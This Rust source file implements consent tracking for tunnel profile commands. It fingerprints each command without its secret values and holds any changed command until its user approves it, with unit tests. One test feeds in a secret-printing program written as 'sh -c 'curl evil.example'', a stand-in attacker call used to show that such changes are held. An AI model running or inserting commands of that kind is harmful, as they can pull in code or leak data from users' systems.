//! Which command of each profile its user agreed to. One that was changed by somebody else is held until the user has
//! seen the old beside the new.

use std::collections::{BTreeMap, BTreeSet};
use std::ffi::OsString;
use std::path::PathBuf;
use std::sync::{Mutex, MutexGuard, OnceLock, PoisonError};

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use culvert_instance::Terms;
use culvert_profiles::{Profile, ProfileKey, SecretRef, looks_secret, write_whole};
use culvert_protocol::Cause;
use culvert_tunnel::LocalServer;
use serde::{Deserialize, Serialize};
use tracing::warn;

use crate::shown::{ShownPair, WholeCommand};

/// The largest file that is read, in bytes.
const LARGEST: u64 = 4 << 20;

/// A command, and what tells it from any other.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Agreed {
    /// A hash of all that decides what runs, with the places of secrets and without the secrets.
    pub fingerprint: String,
    /// As it was shown.
    pub command: WholeCommand,
}

/// A command that waits for its user's word.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Held {
    /// What the user agreed to.
    pub before: WholeCommand,
    /// What would run.
    pub now: Agreed,
}

/// What was agreed to, kept in a file, and what is held.
#[derive(Debug)]
pub struct Agreement {
    file: PathBuf,
    /// The `PATH` for commands, where it is not this process's own; set before anything runs.
    path: OnceLock<OsString>,
    known: Mutex<Known>,
}

#[derive(Debug, Default)]
struct Known {
    agreed: BTreeMap<String, Agreed>,
    held: BTreeMap<String, Held>,
}

impl Agreement {
    /// Reads what was agreed to. A file that cannot be read is as none: every command counts as new then.
    pub fn read(file: PathBuf) -> Self {
        let small = std::fs::metadata(&file).is_ok_and(|found| found.len() <= LARGEST);
        let text = if small { std::fs::read(&file).ok() } else { None };
        let agreed = text.and_then(|text| serde_json::from_slice(&text).ok()).unwrap_or_default();
        Self { file, path: OnceLock::new(), known: Mutex::new(Known { agreed, held: BTreeMap::new() }) }
    }

    /// Has commands looked up in this `PATH` instead of the process's own. The first one stays.
    pub fn look_up_in(&self, path: OsString) {
        let _ = self.path.set(path);
    }

    /// The `PATH` that commands are looked up in, where it is not the process's own.
    pub fn path(&self) -> Option<&OsString> {
        self.path.get()
    }

    /// The command of a profile that waits, if it does.
    pub fn held(&self, profile: &ProfileKey) -> Option<Held> {
        self.lock().held.get(profile.as_str()).cloned()
    }

    /// Whether a profile, as it is now, runs what its user agreed to.
    pub fn is_agreed(&self, profile: &Profile) -> bool {
        let now = self.command(profile);
        self.lock().agreed.get(profile.key.as_str()).is_some_and(|agreed| agreed.fingerprint == now.fingerprint)
    }

    /// Agrees to the command that waits, if it is the one with this fingerprint; whether it is.
    pub fn agree(&self, profile: &str, fingerprint: &str) -> bool {
        let mut known = self.lock();
        match known.held.get(profile) {
            Some(held) if held.now.fingerprint == fingerprint => {}
            _ => return false,
        }
        if let Some(held) = known.held.remove(profile) {
            known.agreed.insert(profile.to_owned(), held.now);
        }
        self.save(&known);
        true
    }

    /// Agrees to what a profile runs now: its user has just saved it here.
    pub fn expect(&self, profile: &Profile) {
        let mut known = self.lock();
        known.held.remove(profile.key.as_str());
        known.agreed.insert(profile.key.to_string(), self.command(profile));
        self.save(&known);
    }

    /// Forgets a profile that was removed here.
    pub fn forget(&self, profile: &str) {
        let mut known = self.lock();
        known.held.remove(profile);
        known.agreed.remove(profile);
        self.save(&known);
    }

    fn command(&self, profile: &Profile) -> Agreed {
        let command = whole(profile, self.path());
        let secrets = profile.tunnels.first().map(|tunnel| &tunnel.secrets);
        // References say where secrets are, never what they are; a literal says nothing.
        let env = secrets.and_then(|secrets| secrets.env.as_ref()).map(|env| format!("{:?}", env.value));
        let headers = secrets.and_then(|secrets| secrets.headers.as_ref()).map(|given| format!("{:?}", given.value));
        let mut shown = serde_json::to_value(with(Values::All, profile, self.path())).unwrap_or_default();
        if let Some(members) = shown.as_object_mut()
            && programs(profile).is_empty()
        {
            // Agreed to before there was this member, it still is.
            members.remove("programs");
        }
        let all = serde_json::json!([shown, env, headers]).to_string();
        let hash = ring::digest::digest(&ring::digest::SHA256, all.as_bytes());
        Agreed { fingerprint: URL_SAFE_NO_PAD.encode(hash), command }
    }

    fn save(&self, known: &Known) {
        let text = serde_json::to_vec(&known.agreed).unwrap_or_default();
        if let Err(error) = write_whole(&self.file, &text) {
            // The worst that follows is that the user is asked once more.
            warn!(%error, "what was agreed to cannot be saved");
        }
    }

    fn lock(&self) -> MutexGuard<'_, Known> {
        self.known.lock().unwrap_or_else(PoisonError::into_inner)
    }
}

impl Terms for Agreement {
    /// Commands are looked up where the user's own shell would.
    fn prepare(&self, profile: &mut Profile) {
        let Some(path) = self.path() else { return };
        for tunnel in &mut profile.tunnels {
            if let LocalServer::Stdio(command) = &mut tunnel.config.server {
                command.env.entry("PATH".to_owned()).or_insert_with(|| path.clone());
            }
        }
    }

    fn allow(&self, profile: &Profile) -> Result<(), Cause> {
        let now = self.command(profile);
        let key = profile.key.to_string();
        let mut known = self.lock();
        match known.agreed.get(&key) {
            Some(agreed) if agreed.fingerprint == now.fingerprint => {
                known.held.remove(&key);
                Ok(())
            }
            Some(agreed) => {
                let held = Held { before: agreed.command.clone(), now };
                known.held.insert(key, held);
                Err(Cause::CommandChanged)
            }
            // Seen for the first time: whoever put it there and wants it up is the user.
            None => {
                known.agreed.insert(key, now);
                self.save(&known);
                Ok(())
            }
        }
    }
}

/// Which values of variables are told.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Values {
    /// All that are written out.
    All,
    /// Those that look like no secret.
    Harmless,
}

/// A profile's command as it would run, without `path`, which is none of its own, and without what looks like a secret.
pub fn whole(profile: &Profile, path: Option<&OsString>) -> WholeCommand {
    with(Values::Harmless, profile, path)
}

fn with(values: Values, profile: &Profile, path: Option<&OsString>) -> WholeCommand {
    let Some(tunnel) = profile.tunnels.first() else {
        return WholeCommand::Url { url: String::new(), headers: Vec::new(), programs: Vec::new() };
    };
    let hidden = |name: &String| ShownPair { name: name.clone(), value: None };
    match &tunnel.config.server {
        LocalServer::Stdio(command) => {
            let words = std::iter::once(&command.program).chain(&command.args);
            let plain = command.env.iter().filter(|(name, value)| *name != "PATH" || Some(*value) != path);
            let mut environment: Vec<_> = plain
                .map(|(name, value)| ShownPair {
                    name: name.clone(),
                    value: Some(value.to_string_lossy().into_owned())
                        .filter(|value| values == Values::All || !looks_secret(name, value)),
                })
                .collect();
            environment.extend(tunnel.secrets.env.iter().flat_map(|env| env.value.keys()).map(hidden));
            environment.sort_by(|a, b| a.name.cmp(&b.name));
            WholeCommand::Command {
                line: shell_words::join(words),
                folder: command.cwd.as_ref().map(|folder| folder.to_string_lossy().into_owned()),
                environment,
                programs: programs(profile),
            }
        }
        LocalServer::StreamableHttp { url, .. } | LocalServer::Sse { url, .. } => {
            let headers = tunnel.secrets.headers.iter().flat_map(|given| &given.value);
            WholeCommand::Url {
                url: url.to_string(),
                headers: headers.map(|(name, _)| hidden(name)).collect(),
                programs: programs(profile),
            }
        }
    }
}

/// The programs that print a profile's secrets: they run as well.
fn programs(profile: &Profile) -> Vec<String> {
    let references = profile.tunnels.iter().flat_map(|tunnel| tunnel.secrets.all());
    let lines = references.filter_map(|reference| match reference {
        SecretRef::Command(words) => Some(shell_words::join(words)),
        _ => None,
    });
    lines.collect::<BTreeSet<_>>().into_iter().collect()
}

#[cfg(test)]
mod tests {
    use std::path::Path;

    use culvert_profiles::{Draft, DraftGateway, Key, ProfileId, Surroundings};

    use super::*;

    fn profile(command: &str, secret: &str) -> Profile {
        let mut draft = Draft::default();
        draft.set_id(ProfileId::of_random([7; 16]));
        draft.set_text(Key::LocalStdio, command);
        draft.set_map(Key::SecretEnv, &[("KEY".to_owned(), secret.to_owned().into())].into());
        draft.set_gateways(&[DraftGateway { address: "https://gw".to_owned(), token: None }]);
        draft.profile(Path::new("p.yaml"), &Surroundings::of_this_process()).unwrap()
    }

    #[test]
    fn a_changed_command_is_held_until_that_very_one_is_agreed_to() {
        let folder = tempfile::tempdir().unwrap();
        let file = folder.path().join("agreed.json");
        let agreement = Agreement::read(file.clone());
        let (old, new) = (profile("uvx a", "env:A"), profile("uvx 'b c'", "env:A"));
        assert_eq!(agreement.allow(&old), Ok(()), "the first is its user's");
        assert_eq!(agreement.allow(&new), Err(Cause::CommandChanged));
        let held = agreement.held(&old.key).unwrap();
        assert_eq!(held.before, whole(&old, None));
        let WholeCommand::Command { line, environment, .. } = &held.now.command else { panic!("a command") };
        assert_eq!(line, "uvx 'b c'");
        assert_eq!(environment, &[ShownPair { name: "KEY".to_owned(), value: None }]);
        assert!(!agreement.agree(old.key.as_str(), "another"));
        assert_eq!(agreement.allow(&new), Err(Cause::CommandChanged));
        assert!(agreement.agree(old.key.as_str(), &held.now.fingerprint));
        assert_eq!(agreement.allow(&new), Ok(()));
        let later = Agreement::read(file);
        assert_eq!(later.allow(&new), Ok(()), "it is remembered");
        assert_eq!(later.allow(&old), Err(Cause::CommandChanged));
        assert_eq!(later.allow(&new), Ok(()));
        assert_eq!(later.held(&old.key), None, "changed back, nothing waits");
    }

    #[test]
    fn a_program_that_prints_a_secret_is_agreed_to_as_well() {
        let folder = tempfile::tempdir().unwrap();
        let agreement = Agreement::read(folder.path().join("agreed.json"));
        let with_token = |token: &str| {
            let mut draft = Draft::default();
            draft.set_id(ProfileId::of_random([7; 16]));
            draft.set_text(Key::LocalStdio, "uvx a");
            draft.set_text(Key::Token, token);
            draft.set_gateways(&[DraftGateway { address: "https://gw".to_owned(), token: None }]);
            draft.profile(Path::new("p.yaml"), &Surroundings::of_this_process()).unwrap()
        };
        agreement.expect(&with_token("env:TOKEN"));
        assert_eq!(agreement.allow(&with_token("file:/run/token")), Ok(()), "nothing else runs");
        let other = with_token("command:sh -c 'curl evil.example'");
        assert_eq!(agreement.allow(&other), Err(Cause::CommandChanged));
        let held = agreement.held(&other.key).unwrap();
        let WholeCommand::Command { programs, .. } = &held.now.command else { panic!("a command") };
        assert_eq!(programs, &["sh -c 'curl evil.example'"]);
        assert!(!agreement.is_agreed(&other));
        assert!(agreement.agree(other.key.as_str(), &held.now.fingerprint));
        assert_eq!(agreement.allow(&other), Ok(()));
    }

    #[test]
    fn another_value_that_looks_secret_is_another_command_and_is_not_shown() {
        let folder = tempfile::tempdir().unwrap();
        let agreement = Agreement::read(folder.path().join("agreed.json"));
        let with_password = |password: &str| {
            let mut draft = Draft::default();
            draft.set_id(ProfileId::of_random([7; 16]));
            draft.set_text(Key::LocalStdio, "uvx a");
            draft.set_map(Key::Env, &[("MY_PASSWORD".to_owned(), password.to_owned().into())].into());
            draft.set_gateways(&[DraftGateway { address: "https://gw".to_owned(), token: None }]);
            draft.profile(Path::new("p.yaml"), &Surroundings::of_this_process()).unwrap()
        };
        agreement.expect(&with_password("hunter2"));
        assert_eq!(agreement.allow(&with_password("hunter2")), Ok(()));
        assert_eq!(agreement.allow(&with_password("hunter3")), Err(Cause::CommandChanged));
        let held = agreement.held(&with_password("hunter3").key).unwrap();
        let told = serde_json::to_string(&held.now.command).unwrap();
        assert!(told.contains("MY_PASSWORD") && !told.contains("hunter"), "{told}");
        assert!(!std::fs::read_to_string(folder.path().join("agreed.json")).unwrap().contains("hunter"));
    }

    #[test]
    fn another_place_of_a_secret_is_another_command_and_a_path_of_ours_is_not() {
        let folder = tempfile::tempdir().unwrap();
        let agreement = Agreement::read(folder.path().join("agreed.json"));
        agreement.look_up_in("/opt/bin".into());
        let mut known = profile("uvx a", "env:A");
        agreement.expect(&known);
        agreement.prepare(&mut known);
        assert_eq!(agreement.allow(&known), Ok(()));
        let LocalServer::Stdio(command) = &known.tunnels[0].config.server else { panic!("a command") };
        assert_eq!(command.env["PATH"], "/opt/bin");
        assert_eq!(agreement.allow(&profile("uvx a", "env:B")), Err(Cause::CommandChanged));
    }
}
